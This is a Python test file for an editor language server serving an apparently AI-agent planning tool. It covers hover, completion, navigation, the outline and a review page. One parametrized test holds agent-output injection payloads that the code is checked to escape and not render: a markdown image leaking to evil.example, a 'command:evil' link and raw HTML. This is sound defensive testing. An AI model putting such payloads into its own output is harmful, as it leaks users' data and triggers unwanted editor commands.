"""Hover, completion, navigation, the outline and the page for review."""

from decimal import Decimal

import pytest
from boards import finding, judged, running
from editor_marks import (
    check_links,
    completed,
    defined,
    hovered,
    outline,
    plan_snapshot,
)
from sample_plan import PLAN

from podium.domain.events.progress import Todo
from podium.domain.run import TaskPhase
from podium.domain.verdict import Gate, Outcome
from podium_server.analysis.review import review


def at(text: str, where: str, behind: str = "") -> str:
    """Return ``text`` with the cursor in ``where``, behind its first part."""
    assert f"{behind}{where}" in text
    return text.replace(f"{behind}{where}", f"{behind}$0{where}", 1)


WORKING = running(
    PLAN,
    T1={
        "phase": TaskPhase.WORKING,
        "attempt": 2,
        "cost_usd": Decimal("0.031"),
        "model": "acme/large",
        "doing": "edit src/app.py",
        "todos": (Todo(text="write a test", done=True), Todo(text="make it pass")),
        "history": (
            judged(Gate.SCOPE, Outcome.PASSED, summary="only declared files", duration_s=0.12),
            judged(
                Gate.SUITE,
                command="pytest -q | tail",
                exit_status=1,
                output="collected 12\nE  assert 1 == 2\n```\n",
                duration_s=1.5,
            ),
        ),
    },
)


def test_hovering_a_task_tells_everything_about_it() -> None:
    expected = r"""
**T1** write it

working · attempt 2 · $0.031 · acme/large

_edit src/app.py_

- [x] write a test
- [ ] make it pass

| gate | verdict | evidence | time |
| --- | --- | --- | --- |
| scope | ✓ passed | only declared files | 0.1 s |
| suite | ✗ failed | 1 of 12 tests failed (pytest -q \| tail → 1) | 1.5 s |

suite:

````text
collected 12
E  assert 1 == 2
```
````
""".strip("\n")
    assert hovered(at(PLAN, "T1: write"), WORKING) == expected
    assert hovered(at(PLAN, "accept: `pytest -q`"), WORKING) == expected


def test_hovering_a_reference_tells_what_it_refers_to() -> None:
    assert hovered(at(PLAN, "1\n  - covers: R2", "after: T"), WORKING) == "**T1** write it"
    assert hovered(at(PLAN, "2\n  - references", "covers: R"), WORKING) == "**R2** documented"
    assert hovered(at(PLAN, "app.py:2-4", "src/"), WORKING) == (
        "src/app.py, from line 2\n\n```text\ntwo\nthree\nfour\n```"
    )
    assert hovered(at(PLAN, "slugs.md` (new)", "docs/"), WORKING) == (
        "docs/slugs.md: no such file yet"
    )


def test_hovering_a_question_tells_its_options() -> None:
    assert hovered(at(PLAN, "Q1: which"), WORKING) == "**Q1** which alphabet?\n\n- ascii\n- unicode"


def test_hovering_the_title_tells_of_tasks_without_a_line() -> None:
    request = running(PLAN.replace("T2: document it", "T3: mend it"))
    assert hovered(at(PLAN, "Slugs", "# "), request) == "**T3** mend it\n\nwaiting"
    assert hovered(at(PLAN, "Slugs", "# "), WORKING) is None


def test_hovering_elsewhere_tells_nothing() -> None:
    assert hovered(at(PLAN, "Add slugs"), WORKING) is None
    assert hovered("$0x = 1\n", WORKING, code=True) is None


def test_hovering_a_finding_tells_its_evidence() -> None:
    request = running(PLAN, run={"findings": (finding(detail="É becomes e.", reviewer="r"),)})
    assert hovered("    $0return text.lower()\n", request, code=True) == (
        "**major**: Accents are lost\n\nÉ becomes e.\n\n"
        "```text\nreturn text.lower()\n```\n\nT1 of slug, r"
    )


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("![x](https://evil.example/?leak)", r"!\[x\](https\://evil.example/?leak)"),
        ("[click](command:evil)", r"\[click\](command:evil)"),
        ("<img src=x>", r"\<img src=x>"),
        ("`code` and `<b>`", "`code` and `<b>`"),
        ("`[x](y)` [x](y)", r"`[x](y)` \[x\](y)"),
        (r"\`<b>\`", r"\\`<b>\`"),
        ("`a``<b>`", r"\`a\`\`\<b>\`"),
        ("`a|<b>`", r"\`a\|\<b>\`"),
        ("`a\n<b>`", "\\`a\n\\<b>\\`"),
        ("# heading", r"\# heading"),
        ("1. item", r"1\. item"),
        ("some_name and _this_", r"some_name and \_this\_"),
    ],
)
def test_what_agents_say_is_shown_and_never_rendered(said: str, shown: str) -> None:
    request = running(PLAN, run={"findings": (finding(title="x", detail=said),)})
    told = hovered("$0return text.lower()\n", request, code=True)
    assert told is not None
    assert told.split("\n\n")[1] == shown


def test_completing_ids() -> None:
    assert completed(at(PLAN, "T1\n  - covers: R2", "after: ")) == ["  - after: T1"]
    assert completed(at(PLAN, "R1\n  - references", "covers: ")) == [
        "  - covers: R1",
        "  - covers: R2",
    ]
    assert completed(at(PLAN.replace("covers: R1\n", "covers: R1, R\n"), "\n", "R1, R")) == [
        "  - covers: R1, R1",
        "  - covers: R1, R2",
    ]


def test_completing_categories_and_paths() -> None:
    assert completed(at(PLAN, "quick", "category: ")) == [
        "  - category: quick",
        "  - category: thorough",
        "  - category: unspecified-low",
        "  - category: writing",
    ]
    folders = {"": ["src/", "docs/", "README.md"], "src": ["app.py"]}
    text = PLAN.replace("files: `src/app.py:2-4`", "files: `")
    assert completed(at(text, "\n", "files: `"), folders) == [
        "  - files: `src/",
        "  - files: `docs/",
        "  - files: `README.md",
    ]
    text = PLAN.replace("files: `src/app.py:2-4`", "files: `src/")
    assert completed(at(text, "\n", "files: `src/"), folders) == ["  - files: `src/app.py"]


def test_completing_fields_and_headings() -> None:
    text = PLAN.replace("  - after: T1\n", "  - \n")
    assert "  - must not: " in completed(at(text, "\n  - covers: R2", "- "))
    text = PLAN.replace("  - answer:\n", "  - \n")
    assert completed(at(text, "\n\n## Tasks", "- ")) == ["  - answer: ", "  - options: "]
    assert completed(f"{PLAN}\n##$0") == [
        "## Objective",
        "## Scope",
        "### Must",
        "### Must not",
        "## Impact",
        "## Test strategy",
        "## Review log",
        "## Decisions",
    ]
    assert completed(at(PLAN, "Add slugs.")) == []


def test_ids_and_files_lead_to_their_place() -> None:
    assert defined(at(PLAN, "T1\n  - covers: R2", "after: ")) == "- [ ] T1: write it"
    assert defined(at(PLAN, "\n  - references: `docs/guide.md:3`", "covers: R2")) == (
        "- R2: documented"
    )
    assert defined(at(PLAN, "app.py:2-4", "src/")) == "src/app.py:2"
    assert defined(at(PLAN, "guide.md:3", "docs/")) == "docs/guide.md:3"
    assert defined(at(PLAN, "Add slugs.")) is None


def test_files_that_exist_already_are_links() -> None:
    check_links("""
        ## Tasks

        - [ ] T1: write it
          - files: `src/app.py:2-4`, `src/new.py` (new)
                    ^^^^^^^^^^^^^^ src/app.py:2
          - references: `docs/guide.md`
                         ^^^^^^^^^^^^^ docs/guide.md:1
    """)


def test_the_outline_shows_what_is_open_and_how_far_tasks_are() -> None:
    assert outline(PLAN, WORKING) == (
        "section Request ()\n"
        "section Requirements ()\n"
        "  requirement R1 slugs ()\n"
        "  requirement R2 documented ()\n"
        "section Open questions ()\n"
        "  question Q1 which alphabet? (open)\n"
        "section Tasks ()\n"
        "  task T1 write it (working · attempt 2 · $0.031 · acme/large)\n"
        "  task T2 document it (waiting)"
    )


def test_the_page_for_review_says_what_approving_would_do() -> None:
    page = review(plan_snapshot(PLAN))
    assert (
        page
        == """\
# Review of Slugs

Approving starts 2 tasks; each works in a tree of its own.

## Wave 1

**T1** write it (quick)
- src/app.py

## Wave 2

**T2** document it (unspecified-low)
- docs/slugs.md (new)

## Commands that will be run, in the sandbox

- pytest -q
- pytest -q docs

## Requirements

| requirement | tasks |
| --- | --- |
| R1 slugs | T1 |
| R2 documented | T2 |

## 1 problem

- line 14, warning: Q1 is open; write the answer after 'answer:'
"""
    )
